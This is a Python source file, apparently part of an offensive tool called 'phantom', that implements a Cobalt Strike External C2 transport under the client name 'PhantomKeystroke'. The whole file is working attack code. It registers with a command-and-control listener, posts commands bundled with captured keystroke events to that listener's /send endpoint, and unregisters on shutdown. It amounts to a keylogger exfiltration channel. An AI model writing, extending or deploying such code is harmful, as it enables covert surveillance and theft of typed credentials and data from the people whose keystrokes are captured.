# phantom/plugins/adapters/cobaltstrike.py
# Cobalt Strike External C2 transport (HTTP)

from __future__ import annotations

import asyncio
import logging
from collections.abc import Sequence
from typing import TYPE_CHECKING

import aiohttp

from phantom.config import TRANSPORT_CONFIG
from phantom.exceptions import ConnectFailed
from phantom.plugins.adapters.http_base import HttpTransport, with_retries
from phantom.plugins.base import Ack, TransportHandle, build_payload

if TYPE_CHECKING:
    from phantom.config import PluginConfig
    from phantom.fingerprint import FingerprintedCommand
    from phantom.keystroke import KeystrokeEvent

logger = logging.getLogger(__name__)

CLIENT_NAME = "PhantomKeystroke"


class CobaltStrikeTransport(HttpTransport):
    """
    Registers with an External C2 listener and posts each command.

    Parameters:
        endpoint: Listener base URL (default http://localhost:50050)
    """

    name = "cobaltstrike"

    async def connect(self, config: PluginConfig) -> TransportHandle:
        endpoint = str(config.parameters.get("endpoint", TRANSPORT_CONFIG.COBALTSTRIKE_ENDPOINT)).rstrip("/")
        session = self._open_session(config)

        try:
            data, _ = await with_retries(
                lambda: self._request(
                    session, "POST", f"{endpoint}/register", {"name": CLIENT_NAME, "type": "external_c2"}
                ),
                config.max_retries,
                f"Cobalt Strike register at {endpoint}",
                error=ConnectFailed,
            )
        except ConnectFailed:
            await session.close()
            raise

        logger.info("Connected to Cobalt Strike External C2 at %s", endpoint)
        return TransportHandle(
            transport=self.name,
            config=config,
            session=session,
            state={"endpoint": endpoint, "registration": data},
        )

    async def send(
        self,
        handle: TransportHandle,
        command: FingerprintedCommand,
        events: Sequence[KeystrokeEvent],
    ) -> Ack:
        endpoint = handle.state["endpoint"]
        payload = build_payload(command, events)
        data, attempts = await with_retries(
            lambda: self._request(handle.session, "POST", f"{endpoint}/send", payload),
            handle.config.max_retries,
            "Cobalt Strike send",
        )
        return Ack(delivered=True, attempts=attempts, detail="accepted by listener", data=data)

    async def shutdown(self, handle: TransportHandle) -> None:
        endpoint = handle.state.get("endpoint")
        try:
            if handle.connected and endpoint:
                await self._request(handle.session, "POST", f"{endpoint}/unregister", {})
        except (aiohttp.ClientError, asyncio.TimeoutError) as e:
            logger.warning("Cobalt Strike unregister failed: %s", e)
        finally:
            await super().shutdown(handle)
